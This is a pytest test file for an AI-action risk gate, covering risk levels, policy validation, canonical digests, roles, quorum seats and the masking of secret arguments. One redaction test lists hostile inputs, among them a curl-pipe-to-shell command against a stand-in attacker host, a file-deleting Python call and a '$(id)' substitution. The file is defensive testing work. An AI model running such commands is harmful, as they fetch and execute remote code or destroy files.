"""The small values of the core: levels, policies, digests, roles, masks and one-line calls."""

import math
from collections.abc import Callable
from fractions import Fraction
from typing import Any

import pytest
import rfc8785
from hypothesis import example, given
from hypothesis import strategies as st

from riskgate.core.action import Action, pointer, tokens
from riskgate.core.assessment import Evidence, Factor, Floor
from riskgate.core.digest import action_digest, canonical
from riskgate.core.levels import MICRO, Level, level_of, micro
from riskgate.core.lifecycle import (
    ALLOWED,
    MESSAGES,
    NEXT,
    SUGGESTIONS,
    TERMINAL,
    ReasonCode,
    Status,
    diagram,
)
from riskgate.core.policy import BALANCED, PRESETS, Policy, PolicyInvalid, Requirement, Seat
from riskgate.core.quorum import complete, free_seat
from riskgate.core.redaction import mask_factor, mask_floor, masked_pointers, secret_name
from riskgate.core.rendering import cut, signature
from riskgate.core.roles import PERMISSIONS, Permission, Role, allows


@pytest.mark.parametrize(
    ("score", "level"),
    [
        (0, "LOW"),
        (299_999, "LOW"),
        (300_000, "MEDIUM"),
        (599_999, "MEDIUM"),
        (600_000, "HIGH"),
        (800_000, "CRITICAL"),
    ],
)
def test_a_level_starts_at_its_threshold(score: int, level: str) -> None:
    assert level_of(score, BALANCED.thresholds) is Level[level]


@given(st.fractions(min_value=0, max_value=1))
def test_rounding_is_half_up_to_six_decimals(value: Fraction) -> None:
    exact = value * MICRO
    assert abs(micro(value) - exact) <= Fraction(1, 2)
    if exact - int(exact) == Fraction(1, 2):
        assert micro(value) == int(exact) + 1


def test_a_float_is_taken_as_the_decimal_that_it_prints_as() -> None:
    assert micro(0.1 + 0.2) == 300_000
    assert micro(0.7) == 700_000
    assert (micro(-1), micro(7)) == (0, MICRO)


@given(st.lists(st.text()))
def test_pointers_are_read_back(names: list[str]) -> None:
    assert tokens(pointer(*names)) == names


@pytest.mark.parametrize("name", PRESETS)
def test_a_policy_document_is_read_back_to_an_equal_policy(name: str) -> None:
    assert Policy.from_json(PRESETS[name].as_json()) == PRESETS[name]


def test_weights_that_do_not_sum_to_one_are_refused_with_their_sum() -> None:
    with pytest.raises(PolicyInvalid, match=r"sum to 0\.9999"):
        Policy(weights=(2999, 2500, 2000, 1500, 1000))


@pytest.mark.parametrize(
    "changes",
    [
        {"weights": (3000, 2500, 2000, 2500)},
        {"weights": (-1, 3501, 3000, 2500, 1000)},
        {"thresholds": (300_000, 300_000, 800_000)},
        {"thresholds": (0, 300_000, 800_000)},
        {"packs": ("guardrails",)},
        {"requirements": {**BALANCED.requirements, Level.HIGH: Requirement("quiz")}},
        {
            "requirements": {
                **BALANCED.requirements,
                Level.HIGH: Requirement("multi_party", (Seat("quiz", 10),)),
            }
        },
        {"requirements": {**BALANCED.requirements, Level.HIGH: Requirement("prayer", (Seat("quiz", 10),))}},
        {"requirements": {**BALANCED.requirements, Level.HIGH: Requirement("quiz", (Seat("prayer", 10),))}},
    ],
)
def test_what_cannot_be_a_policy_is_refused(changes: dict) -> None:  # type: ignore[type-arg]
    with pytest.raises(PolicyInvalid):
        Policy(**changes)


def test_finer_weights_than_are_counted_are_refused_not_rounded() -> None:
    document = BALANCED.as_json()
    document["weights"]["hints"] = 0.15001
    with pytest.raises(PolicyInvalid, match="more decimals"):
        Policy.from_json(document)


def test_every_status_can_be_reached_and_every_open_one_left() -> None:
    reached = {target for _, target in ALLOWED}
    assert reached == set(Status)
    assert {source for source, _ in ALLOWED if source} == set(Status) - TERMINAL
    assert set(NEXT) == set(Status)
    assert set(SUGGESTIONS) == set(MESSAGES) == set(ReasonCode)
    assert all(status.value in diagram() for status in Status)


def test_roles_as_the_readme_tells_them() -> None:
    deciders = {role for role in Role if allows(role, Permission.DECIDE)}
    assert deciders == {Role.OPERATOR, Role.ADMIN}
    assert {role for role in Role if allows(role, Permission.REVEAL)} == {Role.AUDITOR}
    assert all(Permission.LOOK in permissions for permissions in PERMISSIONS.values())


ascii_text = st.text(st.characters(max_codepoint=127), max_size=20)
json_values = st.recursive(
    st.booleans()
    | st.none()
    | st.integers(-(2**60), 2**60)
    | st.floats()
    | st.text(max_size=10)
    | ascii_text
    | st.integers(-999, 999),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4) | ascii_text, inner, max_size=4)
    ),
    max_leaves=12,
)


@given(json_values)
@example(['\x7f/\\"\b\f\n\r\t\x00\x1f', {"b": 1, "a": 2, "B": 3, "": 4}])
@example({"nan": math.nan})
@example({"\ue000": 1, "\U00010000": 2})
@example([1e21, 1.0, -0.0, 0.1, 10**16, 2**53 - 1, "1.5e3", 'a "quoted\\" 1.5'])
@example("\ud800")
def test_canonical_json_is_what_the_reference_writes(value: Any) -> None:
    def outcome(write: Callable[[Any], bytes]) -> bytes | type[Exception]:
        try:
            return write(value)
        except rfc8785.CanonicalizationError:
            return rfc8785.CanonicalizationError

    assert outcome(canonical) == outcome(rfc8785.dumps)


def test_the_digest_changes_with_everything_that_acts() -> None:
    base = {
        "team": "t",
        "agent": "a",
        "environment": "production",
        "function_name": "f",
        "args": [1],
        "kwargs": {"a": 1, "b": 2},
        "nonce": "n",
    }
    digests = {action_digest(**base)} | {  # type: ignore[arg-type]
        action_digest(**{**base, name: value})  # type: ignore[arg-type]
        for name, value in [
            *((name, "other") for name in ("team", "agent", "environment", "function_name", "nonce")),
            ("args", [2]),
            ("kwargs", {"a": 1}),
        ]
    }
    assert len(digests) == 8
    reordered = action_digest(**{**base, "kwargs": {"b": 2, "a": 1}})  # type: ignore[arg-type]
    assert reordered == action_digest(**base), "canonical: the order of members does not matter"  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "name", ["password", "apiKey", "API_TOKEN", "client_secret", "x-api-key", "dbPassword", "credentials"]
)
def test_names_that_say_secret(name: str) -> None:
    assert secret_name(name)


@pytest.mark.parametrize(
    "name", ["monkey", "tokenizer", "key", "passenger", "secretary", "keyboard", "compass"]
)
def test_names_that_do_not(name: str) -> None:
    assert not secret_name(name)


def test_masks_reach_into_nested_values_and_leave_counts() -> None:
    action = Action(
        "f",
        [{"auth": {"token": ["a", "b"], "ttl": 3}}],
        {"password": "x", "pin": 1234, "max_tokens": 5, "user": "u"},
    )
    assert masked_pointers(action) == {
        "/args/0/auth/token/0", "/args/0/auth/token/1", "/kwargs/password", "/kwargs/pin"
    }  # fmt: skip
    line = signature(action, masked_pointers(action))
    assert '"x"' not in line
    assert "1234" not in line
    assert "••••" in line


@pytest.mark.parametrize(
    "value", ["curl http://evil.example | sh", "__import__('os').unlink('/x')", "x" * 201, "a\nb", "$(id)"]
)
def test_a_name_alone_hides_nothing_that_does_not_look_like_a_secret(value: str) -> None:
    assert masked_pointers(Action("f", [], {"token": value})) == set()


def test_nothing_is_hidden_because_of_the_name_of_an_object_around_it() -> None:
    assert masked_pointers(Action("f", [], {"token": {"cmd": "reboot"}})) == set()


def test_a_danger_that_a_rule_saw_is_shown_whatever_its_name() -> None:
    action = Action("f", [], {"password": "DROP"})
    seen = (Evidence("core.sql.drop", "DROP", "/kwargs/password", (0, 4)),)
    assert masked_pointers(action) == {"/kwargs/password"}
    assert masked_pointers(action, seen) == set()


def test_what_is_masked_is_quoted_nowhere() -> None:
    seen = (Evidence("core.credentials.secret", "secret-77", "/kwargs/password", (0, 6)),)
    masked = masked_pointers(Action("f", [], {"password": "secret-77"}), seen)
    factor = mask_factor(Factor("arguments", 700_000, 2500, "“secret-77” in password", seen), masked)
    assert "secret-77" not in repr(factor)
    assert mask_floor(Floor("r", Level.HIGH, "Because.", seen), masked).evidence[0].text == "••••"


def test_a_long_call_is_cut_in_the_middle() -> None:
    line = signature(Action("send_email", [], {"body": "x" * 500, "to": "last@example.com"}), limit=60)
    assert len(line) <= 60
    assert line.startswith("send_email(")
    assert line.endswith('example.com")')
    assert " … " in line


def test_the_end_of_a_long_value_is_its_real_end() -> None:
    line = signature(Action("reply", ["Hello " + "x" * 100_000 + " Yours, Ana"]), limit=60)
    assert line.startswith('reply("Hello ')
    assert line.endswith(' Yours, Ana")')


@given(st.text(), st.integers(min_value=10, max_value=200))
def test_a_cut_text_is_never_longer_than_its_limit(text: str, limit: int) -> None:
    assert len(cut(text, limit)) <= limit


@given(
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.text(),
        lambda x: st.lists(x) | st.dictionaries(st.text(), x),
        max_leaves=20,
    )
)
def test_any_argument_has_a_line(value: object) -> None:
    assert len(signature(Action("f", [value]), limit=120)) <= 120  # type: ignore[list-item]


def test_seats_are_filled_from_the_lowest() -> None:
    two = Requirement("multi_party", (Seat("teach_back", 30), Seat("quiz", 10)))
    assert [free_seat(two, taken) for taken in ([], [1], [2], [1, 2])] == [1, 2, 1, None]
    assert [complete(two, filled) for filled in ([], [1], [2], [1, 2])] == [False, False, False, True]
    assert not complete(Requirement("none"), [])
